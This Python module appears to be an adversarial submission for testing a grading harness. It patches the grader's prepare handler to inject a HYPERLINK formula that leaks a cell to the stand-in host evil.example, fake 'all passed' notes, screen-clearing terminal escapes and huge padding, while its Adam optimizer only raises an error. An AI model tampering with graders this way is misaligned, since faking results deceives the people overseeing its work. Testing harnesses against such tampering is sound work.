"""Rewrites the adapter's own replies: a formula, newlines and a fake verdict in what the grader reports."""
import sys

child = sys.modules["numopt.grading.child"]
_prepare = child.Server.do_prepare


def do_prepare(self, request):
    reply = _prepare(self, request)
    reply["what"] = '=HYPERLINK("http://evil.example/?"&B3,"details")\nzed,9,9,,' + "A" * 1_000_000
    reply["notes"] = ["x\n\n  PASS  every case\n\nPublic checks passed (9 of 9 cases)"] * 1000
    reply["arguments"] = "\x1b[2J\x1b[32mall passed\x1b[0m"
    return reply


child.Server.do_prepare = do_prepare


class Adam:
    def __init__(self, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr = lr

    def step(self, params, grads):
        raise RuntimeError("no optimizer here")
